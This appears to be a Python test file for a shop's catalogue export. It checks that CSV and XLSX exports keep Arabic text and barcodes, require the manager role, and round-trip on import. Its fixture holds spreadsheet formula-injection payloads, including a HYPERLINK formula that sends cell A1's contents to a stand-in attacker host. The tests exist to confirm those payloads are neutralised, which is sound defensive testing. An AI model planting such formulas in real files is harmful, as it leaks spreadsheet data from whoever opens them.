"""Exporting the catalogue as CSV and XLSX: readable by Excel, safe to open, and importable back."""

from __future__ import annotations

import csv
import io
import uuid

from openpyxl import load_workbook
from tests.integration.test_product_import import XLSX, upload
from tests.support import Shop, ean13


def _catalogue(shop: Shop) -> tuple[dict, dict]:
    tag = uuid.uuid4().hex[:6]
    hostile = shop.product(name='=HYPERLINK("http://evil.example/?x="&A1,"click")', name_ar="@SUM(1+1)",
                           sku=f"=cmd-{tag}")
    code = ean13()
    case = shop.product(name="Water 1.5L", name_ar="مياه ١٫٥ لتر", price="0.400", threshold="24",
                        barcodes=[{"barcode": code}, {"barcode": ean13("7"), "factor": "6", "unit": "pack"},
                                  {"barcode": ean13("8"), "factor": "6", "unit": "pack"}])
    return hostile, case


def test_csv_export_neutralises_formulas_and_keeps_arabic(shop: Shop) -> None:
    hostile, water = _catalogue(shop)
    response = shop.key("manager").get("/products/export?format=csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # so that Excel reads UTF-8
    rows = {row["sku"]: row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
    bad = rows["'" + hostile["sku"]]
    assert bad["name"] == "'" + hostile["name"] and bad["name_ar"] == "'@SUM(1+1)"
    line = rows[water["sku"]]
    assert line["name_ar"] == "مياه ١٫٥ لتر" and line["price"] == "0.400" and line["low_stock_threshold"] == "24.000"
    assert line["barcode"] == water["barcodes"][0]["barcode"]
    assert line["case_barcode"].split("; ") == [b["barcode"] for b in water["barcodes"][1:]]
    assert line["case_factor"] == "6.000"


def test_xlsx_export_stores_text_as_text_never_as_formulas(shop: Shop) -> None:
    hostile, water = _catalogue(shop)
    response = shop.admin.get("/products/export?format=xlsx")
    assert response.status_code == 200 and response.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    bad = rows[hostile["sku"]]
    assert bad["name"].value == hostile["name"] and bad["name"].data_type == "s"
    assert bad["sku"].data_type == "s"
    line = rows[water["sku"]]
    assert line["price"].data_type == "n" and float(line["price"].value) == 0.4


def test_export_then_import_changes_nothing(shop: Shop) -> None:
    _catalogue(shop)
    for file_format, content_type in (("csv", "text/csv"), ("xlsx", XLSX)):
        exported = shop.admin.get(f"/products/export?format={file_format}").content
        report = upload(shop.admin, exported, content_type=content_type).json()
        assert report["failed"] == 0 and report["created"] == 0 and report["updated"] == 0, report["errors"]
        assert report["unchanged"] == report["rows"] >= 2


def test_export_needs_the_manager_role(shop: Shop) -> None:
    response = shop.key("cashier", shop.store).get("/products/export")
    assert response.status_code == 403
    assert shop.admin.get("/products/export?format=pdf").status_code == 422
